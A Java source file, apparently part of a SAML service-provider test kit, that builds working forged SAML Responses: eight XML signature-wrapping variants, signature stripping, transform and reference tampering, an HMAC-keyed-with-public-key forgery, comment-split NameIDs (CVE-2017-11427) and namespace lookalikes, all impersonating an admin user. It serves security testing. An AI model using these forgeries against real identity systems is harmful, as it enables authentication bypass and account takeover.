package dev.gatehouse.testkit;

import java.security.PublicKey;
import java.util.function.Consumer;
import javax.crypto.spec.SecretKeySpec;
import org.apache.xml.security.signature.XMLSignature;
import org.apache.xml.security.transforms.Transforms;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Named attacks on a signed SAML Response, as DOM edits applied after signing ({@link ResponseBuilder#afterSigning}).
 * The XSW cases follow the eight classic signature-wrapping placements of Somorovsky et al. (USENIX Security 2012)
 * as SAML Raider implements them; in each, the copy a naive SP would read names {@link #EVIL_USER}.
 */
public final class Attacks {

    /** The identity every wrapping attack tries to become. */
    public static final String EVIL_USER = "admin@example.com";

    private static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
    private static final String SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
    private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

    private Attacks() {
    }

    /** XSW1 (Response signed): the signed Response moves inside its own Signature; an evil Response is the root. */
    public static Consumer<Document> xsw1() {
        return d -> {
            Element response = d.getDocumentElement();
            Element signature = child(response, DSIG, "Signature");
            Element original = (Element) response.cloneNode(true);
            original.removeChild(child(original, DSIG, "Signature"));
            signature.appendChild(original);
            response.setAttribute("ID", "_evil_response");
            makeEvil(child(response, SAML, "Assertion"));
        };
    }

    /** XSW2 (Response signed): the signed Response copy sits before the Signature, detached. */
    public static Consumer<Document> xsw2() {
        return d -> {
            Element response = d.getDocumentElement();
            Element signature = child(response, DSIG, "Signature");
            Element original = (Element) response.cloneNode(true);
            original.removeChild(child(original, DSIG, "Signature"));
            response.insertBefore(original, signature);
            response.setAttribute("ID", "_evil_response");
            makeEvil(child(response, SAML, "Assertion"));
        };
    }

    /** XSW3: an unsigned evil Assertion before the signed one. */
    public static Consumer<Document> xsw3() {
        return d -> {
            Element assertion = assertion(d);
            d.getDocumentElement().insertBefore(evilCopy(assertion, true), assertion);
        };
    }

    /** XSW3 with the original signature moved into the evil Assertion. */
    public static Consumer<Document> xsw3SignatureMoved() {
        return d -> {
            Element assertion = assertion(d);
            Element evil = evilCopy(assertion, true);
            Element signature = child(assertion, DSIG, "Signature");
            evil.insertBefore(signature, evil.getFirstChild().getNextSibling());
            d.getDocumentElement().insertBefore(evil, assertion);
        };
    }

    /** XSW4: the evil Assertion replaces the signed one, which moves inside it. */
    public static Consumer<Document> xsw4() {
        return d -> {
            Element assertion = assertion(d);
            Element evil = evilCopy(assertion, true);
            d.getDocumentElement().replaceChild(evil, assertion);
            evil.appendChild(assertion);
        };
    }

    /** XSW5: the signed Assertion is changed in place; an unsigned copy of the original goes to the end. */
    public static Consumer<Document> xsw5() {
        return d -> {
            Element assertion = assertion(d);
            Element original = unsignedCopyThenEvil(assertion);
            d.getDocumentElement().appendChild(original);
        };
    }

    /** XSW6: the signed Assertion is changed in place; an unsigned copy of the original goes into its Signature. */
    public static Consumer<Document> xsw6() {
        return d -> {
            Element assertion = assertion(d);
            Element original = unsignedCopyThenEvil(assertion);
            child(assertion, DSIG, "Signature").appendChild(original);
        };
    }

    /** XSW7: an Extensions block carries an unsigned copy; the Assertion itself is changed. */
    public static Consumer<Document> xsw7() {
        return d -> {
            Element extensions = d.createElementNS(SAMLP, "samlp:Extensions");
            extensions.appendChild(unsignedCopyThenEvil(assertion(d)));
            Element response = d.getDocumentElement();
            response.insertBefore(extensions, child(response, SAMLP, "Status"));
        };
    }

    /** XSW8: a ds:Object in the Signature carries an unsigned copy of the original; the Assertion is changed. */
    public static Consumer<Document> xsw8() {
        return d -> {
            Element assertion = assertion(d);
            Element object = d.createElementNS(DSIG, "ds:Object");
            object.appendChild(unsignedCopyThenEvil(assertion));
            child(assertion, DSIG, "Signature").appendChild(object);
        };
    }

    /** Removes the Assertion's signature. */
    public static Consumer<Document> removeAssertionSignature() {
        return d -> {
            Element assertion = assertion(d);
            assertion.removeChild(child(assertion, DSIG, "Signature"));
        };
    }

    /** Replaces the exclusive-c14n transform of the Assertion's Reference with another (XSLT, XPath ...). */
    public static Consumer<Document> transform(String algorithm, String parameterElement) {
        return d -> {
            Element transforms = (Element) assertion(d).getElementsByTagNameNS(DSIG, "Transforms").item(0);
            Element last = lastElement(transforms);
            last.setAttribute("Algorithm", algorithm);
            while (last.getFirstChild() != null) {
                last.removeChild(last.getFirstChild());
            }
            if (parameterElement != null) {
                Element param = d.createElementNS(DSIG, "ds:" + parameterElement);
                param.setTextContent("not(ancestor-or-self::ds:Signature)");
                last.appendChild(param);
            }
        };
    }

    /** Removes the URI attribute of the Assertion's Reference. */
    public static Consumer<Document> referenceWithoutUri() {
        return d -> ((Element) assertion(d).getElementsByTagNameNS(DSIG, "Reference").item(0)).removeAttribute("URI");
    }

    /** Adds a second Reference to the Assertion's SignedInfo. */
    public static Consumer<Document> secondReference() {
        return d -> {
            Element reference = (Element) assertion(d).getElementsByTagNameNS(DSIG, "Reference").item(0);
            Element copy = (Element) reference.cloneNode(true);
            copy.setAttribute("URI", "#" + d.getDocumentElement().getAttribute("ID"));
            reference.getParentNode().appendChild(copy);
        };
    }

    /**
     * Replaces the Assertion's signature by an HMAC-SHA256 "signature" keyed with the IdP's public key (which is
     * public), over an evil Assertion: an SP that lets the message pick the algorithm and uses the configured key
     * as the HMAC secret accepts it.
     */
    public static Consumer<Document> hmacWithPublicKey(PublicKey idpKey) {
        return d -> {
            Element assertion = assertion(d);
            assertion.removeChild(child(assertion, DSIG, "Signature"));
            makeEvil(assertion);
            try {
                org.apache.xml.security.Init.init();
                XMLSignature signature = new XMLSignature(d, "", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                        "http://www.w3.org/2001/10/xml-exc-c14n#");
                Element issuer = child(assertion, SAML, "Issuer");
                assertion.insertBefore(signature.getElement(), issuer.getNextSibling());
                Transforms transforms = new Transforms(d);
                transforms.addTransform(Transforms.TRANSFORM_ENVELOPED_SIGNATURE);
                transforms.addTransform(Transforms.TRANSFORM_C14N_EXCL_OMIT_COMMENTS);
                assertion.setIdAttributeNS(null, "ID", true);
                signature.addDocument("#" + assertion.getAttribute("ID"), transforms,
                        "http://www.w3.org/2001/04/xmlenc#sha256");
                signature.sign(new SecretKeySpec(idpKey.getEncoded(), "HmacSHA256"));
            } catch (Exception e) {
                throw new IllegalStateException("cannot build the HMAC signature", e);
            }
        };
    }

    /** Adds an unsigned evil Assertion after the signed one. */
    public static Consumer<Document> unsignedAssertionBesideSigned() {
        return d -> d.getDocumentElement().appendChild(evilCopy(assertion(d), true));
    }

    /** Adds an EncryptedAssertion next to the plain one. */
    public static Consumer<Document> encryptedBesidePlain() {
        return d -> {
            Element encrypted = d.createElementNS(SAML, "saml2:EncryptedAssertion");
            encrypted.appendChild(d.createElementNS("http://www.w3.org/2001/04/xmlenc#", "xenc:EncryptedData"));
            d.getDocumentElement().appendChild(encrypted);
        };
    }

    /** Puts an evil Assertion copy into an element named Assertion in a foreign namespace, under Extensions. */
    public static Consumer<Document> lookalikeInForeignNamespace() {
        return d -> {
            Element lookalike = d.createElementNS("urn:evil", "saml2:Assertion");
            lookalike.appendChild(d.createTextNode(EVIL_USER));
            Element extensions = d.createElementNS(SAMLP, "samlp:Extensions");
            extensions.appendChild(lookalike);
            Element response = d.getDocumentElement();
            response.insertBefore(extensions, child(response, SAMLP, "Status"));
        };
    }

    /** Redefines the saml2 prefix on Status and puts a saml2:Assertion (now in another namespace) inside. */
    public static Consumer<Document> redefinedPrefix() {
        return d -> {
            Element status = child(d.getDocumentElement(), SAMLP, "Status");
            status.setAttributeNS("http://www.w3.org/2000/xmlns/", "xmlns:saml2", "urn:evil");
            Element fake = d.createElementNS("urn:evil", "saml2:Assertion");
            fake.setAttribute("ID", "_fake");
            status.appendChild(fake);
        };
    }

    /** Adds an Assertion's worth of namespaced look-alike attributes: {@code x:Destination} with the right value. */
    public static Consumer<Document> namespacedDestination(String acsUrl) {
        return d -> {
            Element response = d.getDocumentElement();
            response.setAttributeNS("http://www.w3.org/2000/xmlns/", "xmlns:x", "urn:evil");
            response.setAttributeNS("urn:evil", "x:Destination", acsUrl);
        };
    }

    /** Splits the NameID text with a comment (CVE-2017-11427). */
    public static Consumer<Document> commentInNameId(String before, String after) {
        return d -> split(d, "NameID", before, after, d.createComment("x"));
    }

    /** Splits the NameID text with a processing instruction. */
    public static Consumer<Document> processingInstructionInNameId(String before, String after) {
        return d -> split(d, "NameID", before, after, d.createProcessingInstruction("x", "y"));
    }

    /** Splits the first AttributeValue with a comment. */
    public static Consumer<Document> commentInAttributeValue(String before, String after) {
        return d -> split(d, "AttributeValue", before, after, d.createComment("x"));
    }

    /** Splits the NameID text with a CDATA section (signature-neutral: c14n sees plain text). */
    public static Consumer<Document> cdataInNameId(String before, String after) {
        return d -> {
            Element e = first(d, "NameID");
            e.setTextContent(before);
            e.appendChild(d.createCDATASection(after));
        };
    }

    /** The Response's Assertion. */
    public static Element assertion(Document d) {
        return child(d.getDocumentElement(), SAML, "Assertion");
    }

    private static void split(Document d, String localName, String before, String after, Node separator) {
        Element e = first(d, localName);
        e.setTextContent("");
        e.appendChild(d.createTextNode(before));
        e.appendChild(separator);
        e.appendChild(d.createTextNode(after));
    }

    /** An unsigned copy of the original assertion (same ID); the signed assertion itself then names the evil user. */
    private static Element unsignedCopyThenEvil(Element assertion) {
        Element original = (Element) assertion.cloneNode(true);
        original.removeChild(child(original, DSIG, "Signature"));
        makeEvil(assertion);
        return original;
    }

    private static Element evilCopy(Element assertion, boolean withoutSignature) {
        Element evil = (Element) assertion.cloneNode(true);
        if (withoutSignature) {
            Element signature = child(evil, DSIG, "Signature");
            if (signature != null) {
                evil.removeChild(signature);
            }
        }
        evil.setAttribute("ID", "_evil_assertion");
        makeEvil(evil);
        return evil;
    }

    private static void makeEvil(Element assertion) {
        Element nameId = (Element) assertion.getElementsByTagNameNS(SAML, "NameID").item(0);
        nameId.setTextContent(EVIL_USER);
    }

    private static Element first(Document d, String localName) {
        return (Element) d.getElementsByTagNameNS(SAML, localName).item(0);
    }

    private static Element child(Element parent, String ns, String localName) {
        for (Node n = parent.getFirstChild(); n != null; n = n.getNextSibling()) {
            if (n instanceof Element e && ns.equals(e.getNamespaceURI()) && localName.equals(e.getLocalName())) {
                return e;
            }
        }
        return null;
    }

    private static Element lastElement(Element parent) {
        Element last = null;
        for (Node n = parent.getFirstChild(); n != null; n = n.getNextSibling()) {
            if (n instanceof Element e) {
                last = e;
            }
        }
        return last;
    }
}
